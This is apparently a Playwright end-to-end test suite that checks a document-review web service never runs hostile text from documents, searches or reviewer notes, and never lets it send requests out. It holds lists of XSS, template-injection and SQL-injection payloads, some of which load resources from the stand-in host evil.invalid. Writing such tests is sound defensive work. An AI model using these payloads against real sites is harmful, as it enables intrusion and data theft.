"""Hostile text wherever text can come from: nothing of it runs, nothing of it leaves.

A document brings it as a name of an agency, a title, a printed number, a file name, an address, and as the web page
itself; a reviewer as a note and as a search. The proof: a function that every payload calls was never called, no dialog
opened, no frame went elsewhere, no request left the service, and the browser's policy had nothing to stop.
"""

from __future__ import annotations

from html import escape
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page, expect
from yearly import report_values

from extractor.store.store import Store
from tests.e2e.conftest import OpenPage
from tests.e2e.documents import NEW, Filed, file_document, spoil, write_page
from tests.e2e.services import Service

# Each calls the canary, or asks a server that is not there, in a way of its own.
PAYLOADS = (
    "<script>canary(1)</script>",
    '"><img src=x onerror=canary(2)>',
    "'><svg onload=canary(3)>",
    '<iframe srcdoc="<script>parent.canary(4)</script>"></iframe>',
    '<a href="javascript:canary(5)">x</a>',
    "</textarea></title></style><script>canary(6)</script>",
    "{{7*7}}{{ ''.__class__ }}{% for x in y %}",
    "${7*7}<%= 7*7 %>",
    "' OR 1=1; DROP TABLE reviews; --",
    '" autofocus onfocus=canary(7) x="',
    "&lt;script&gt;canary(8)&lt;/script&gt;",
    "\u202e<b onmouseover=canary(9)>\u0000\ud7ff",
)
SOURCE = (
    "<script>canary(20)</script><script src=//evil.invalid/a.js></script>"
    "<svg onload=canary(21)><animate onbegin=canary(22) attributeName=x dur=1s></svg>"
    "<iframe srcdoc='<script>parent.canary(23)</script>'></iframe><iframe src=//evil.invalid/frame></iframe>"
    "<meta http-equiv=refresh content='0;url=//evil.invalid/refresh'><base href=//evil.invalid/>"
    "<link rel=stylesheet href=//evil.invalid/a.css><style>@import '//evil.invalid/b.css';"
    "body{background:url(//evil.invalid/c.png)}</style>"
    "<img src=//evil.invalid/d.png onerror=canary(24)><img src=x onerror=canary(25)>"
    "<a href='javascript:canary(26)'>点这里</a><a href=//evil.invalid/e>这里</a>"
    "<form action=//evil.invalid/f><input name=x value=1><button>提交</button></form>"
    "<p style='background:url(//evil.invalid/g.png)' onclick=canary(27)>段落</p>"
    "<object data=//evil.invalid/h></object><embed src=//evil.invalid/i>"
    "<video src=//evil.invalid/j onerror=canary(28)></video><math><mi//xlink:href='data:x,<script>canary(29)</script>'>"
    "<template><script>canary(30)</script></template><noscript><p title='</noscript><img src=x onerror=canary(31)>'>"
)


class Watch:
    """What a page did that it must not do."""

    def __init__(self, page: Page, service: Service) -> None:
        self.seen: list[str] = []
        page.context.expose_binding("canary", lambda _, number: self.seen.append(f"payload {number} ran"))
        page.context.expose_binding("stopped", lambda _, words: self.seen.append(f"the policy stopped {words}"))
        page.context.add_init_script(
            "document.addEventListener('securitypolicyviolation',"
            " event => stopped(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`))"
        )
        page.on("dialog", lambda dialog: (self.seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.on("pageerror", lambda error: self.seen.append(f"error {error}"))
        page.context.on("request", lambda request: self._look_at(request.url, service))

    def _look_at(self, url: str, service: Service) -> None:
        if not url.startswith((f"{service.url}/", "about:", "data:", "blob:")):
            self.seen.append(f"request {url}")


@pytest.fixture(scope="module")
def hostile(store: Store, tmp_path_factory: pytest.TempPathFactory) -> list[Filed]:
    folder, filed = tmp_path_factory.mktemp("hostile"), []
    numbers = ("proactive_disclosure.penalties.decisions", f"{NEW}.business", f"{NEW}.research")
    for number, start in enumerate(range(0, len(PAYLOADS), len(numbers))):
        payloads = PAYLOADS[start : start + len(numbers)]
        marks = {name: f"某数{at}" for at, name in enumerate(numbers)}
        page = write_page("坏县教育局", {**spoil(report_values()), **marks}).decode("gb18030")
        for mark, payload in zip(marks.values(), payloads, strict=True):
            page = page.replace(mark, escape(payload))  # so that the text of the cell is the payload itself
        page = page.replace("<title>x</title>", f"<meta charset=utf-8><title>{payloads[0]}</title>")
        page = page.replace("坏县教育局2023", f"坏县{escape(payloads[1])}局2023").replace("</body>", f"{SOURCE}</body>")
        name = f"{number} {payloads[2]}".replace("/", "∕").replace("\0", "")[:80] + ".html"
        url = f"javascript:canary({number})//" if number % 2 else f'https://evil.invalid/{quote(payloads[0])}"onclick=x'
        filed.append(file_document(store, folder, name, page.encode("utf-8", "replace"), url=url))
    return filed


def test_nothing_in_a_document_runs(at_home: Service, open_page: OpenPage, hostile: list[Filed]) -> None:
    page = open_page(at_home)
    watch = Watch(page, at_home)
    for path in ("/queue", "/documents", "/dashboard", "/runs"):
        page.goto(path)
        expect(page.locator("h1")).to_be_visible()
    for filed in hostile:
        for path in (
            f"/documents/{filed.id}",
            *(f"/items/{item.id}" for item in filed.items[:2]),
            f"/runs/{filed.run_id}",
        ):
            page.goto(path)
            expect(page.locator("h1").first).to_be_visible()
            if path.startswith("/items"):
                page.keyboard.press("j")
                _open_the_web_page(page)
    page.wait_for_timeout(300)  # for what would come late
    assert watch.seen == []
    page.goto(f"/documents/{hostile[2].id}")
    expect(page.locator("#form-pane, main").first).to_contain_text("{{7*7}}")  # as it is printed, not 49


def test_the_frame_by_itself_is_harmless_too(at_home: Service, open_page: OpenPage, hostile: list[Filed]) -> None:
    """Opened on its own, without the sandbox of our page around it."""
    page = open_page(at_home)
    watch = Watch(page, at_home)
    page.goto(f"/documents/{hostile[0].id}/frame")
    expect(page.locator("table").first).to_be_visible()
    assert page.locator("script, iframe, form, img, a[href], svg, object, embed, base, meta[http-equiv]").count() == 0
    assert page.locator("[onclick], [onload], [onerror], [style]").count() == 0
    page.wait_for_timeout(200)
    assert watch.seen == []


def test_nothing_in_a_search_runs(at_home: Service, open_page: OpenPage) -> None:
    page = open_page(at_home)
    watch = Watch(page, at_home)
    payload = quote(" ".join(PAYLOADS)[:200])
    for name in ("text", "site", "code", "kind", "section", "year", "after"):
        page.goto(f"/queue?{name}={payload}")
    for path in (f"/documents?text={payload}", f"/documents/{payload}", f"/runs/{payload}", f"/next?text={payload}"):
        page.goto(path)
    assert watch.seen == []


def test_nothing_in_an_answer_or_a_note_runs(
    at_home: Service, store: Store, open_page: OpenPage, tmp_path: Path
) -> None:
    filed = file_document(store, tmp_path, "note.html", write_page("备注县教育局"))
    page = open_page(at_home, f"/items/{filed.items[0].id}")
    watch = Watch(page, at_home)
    page.goto(f"/items/{filed.items[0].id}")
    payload = '"><img src=x onerror=canary(2)><script>canary(1)</script>'
    page.keyboard.press("j")
    page.keyboard.press("c")
    page.keyboard.type(payload)
    expect(page.locator("#effects")).to_contain_text("<script>")  # it holds no number, and says so
    page.locator(f'select[name="act:{NEW}.total"]').select_option("source_wrong")
    page.locator(f'input[name="txt:{NEW}.total"]').fill("")
    page.locator("#note").fill(payload)
    page.locator("#save").click()
    page.wait_for_function(
        "number => document.querySelector('#review')?.dataset.item !== number", arg=str(filed.items[0].id)
    )
    page.goto(f"/documents/{filed.id}")
    page.locator("#history > summary").click()
    expect(page.locator(".past q")).to_have_text(payload)
    assert watch.seen == []


def _open_the_web_page(page: Page) -> None:
    tab = page.locator("#tab-frame")
    if tab.count():
        tab.click()
        page.frame_locator("#pane-frame iframe").locator("body").wait_for()
